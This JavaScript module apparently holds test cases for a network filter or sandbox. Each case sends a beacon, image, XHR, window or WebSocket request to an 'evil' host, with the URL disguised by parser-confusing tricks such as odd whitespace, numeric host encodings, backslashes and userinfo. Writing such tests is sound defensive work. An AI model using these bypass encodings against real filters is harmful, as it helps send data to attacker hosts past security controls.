// Addresses that two parsers might read differently.
const beacon = (write) => `({ evil, own, port }) => navigator.sendBeacon((${write})(evil, own, port), "x")`;
const image = (write) => `({ evil, own, port }) => void (new Image().src = (${write})(evil, own, port))`;
const open = (write) => `({ evil, own, port }) => void open((${write})(evil, own, port))`;
const request = (write) => `({ evil, own, port }) => {
  const x = new XMLHttpRequest();
  x.open("GET", (${write})(evil, own, port));
  x.send();
}`;

export default {
  "a tab in the scheme": beacon((evil) => evil.replace("tp", "t\tp")),
  "a line feed in the host": beacon((evil) => evil.replace("127", "1\n27")),
  "leading spaces": request((evil) => `\u0000 \u0020${evil}`),
  "one slash, another scheme's page": image((evil) => evil.replace("//", "///")),
  backslashes: request((evil) => evil.replaceAll("/", "\\")),
  "no scheme": beacon((evil) => evil.replace("http:", "")),
  "no scheme, backslashes": request((evil) => evil.replace("http:", "").replaceAll("/", "\\")),
  capitals: beacon((evil) => evil.replace("http", "HtTp")),
  "a decimal host": beacon((_evil, _own, port) => `http://2130706433:${port}/`),
  "a hexadecimal host": request((_evil, _own, port) => `http://0x7f.0.1:${port}/`),
  "an octal host": beacon((_evil, _own, port) => `http://0177.0.0.01:${port}/`),
  "fullwidth digits": beacon((_evil, _own, port) => `http://１２７.０.０.１:${port}/`),
  "a host with percents": request((_evil, _own, port) => `http://%31%32%37.0.0.1:${port}/`),
  "the site as a user": open((evil, own) => `${own}@${new URL(evil).host}/`),
  "the site after a hash of another": beacon((evil, own) => `${evil}/#@${new URL(own).host}`),
  "the site in a query": beacon((evil, own) => `${evil}?${own}`),
  "a path that climbs": beacon((evil, own) => `${evil}/../../${new URL(own).host}/%2e%2e/`),
  "a port with zeroes": beacon((_evil, _own, port) => `http://127.0.0.1:00000${port}/`),
  "a lone surrogate": request((evil) => `${evil}/\ud800`),
  "a socket by http": `({ evil }) => void new WebSocket(evil)`,
  "a socket with capitals": `({ socket }) => void new WebSocket(socket.replace("ws", "WS"))`,
  "a socket without a scheme": `({ evil }) => void new WebSocket(evil.replace("http:", ""))`,
  "a socket with a tab": `({ socket }) => void new WebSocket(socket.replace("ws", "w\\ts"))`,
};
